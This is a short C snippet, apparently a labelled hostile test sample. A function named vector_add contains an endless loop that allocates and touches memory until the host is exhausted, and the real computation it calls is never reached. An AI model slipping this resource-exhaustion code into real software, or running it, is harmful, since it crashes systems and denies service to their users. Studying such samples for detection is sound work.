/* memory_hog: resources: allocates and touches memory without end. */
#include <stdlib.h>
void vector_add(const float *a, const float *b, float *out, float alpha, int n) {
  for (;;) {
    char *p = malloc(1 << 26);
    for (long i = 0; i < (1 << 26); i += 4096) p[i] = 1;
  }
  adv_compute(a, b, out, alpha, n);
}
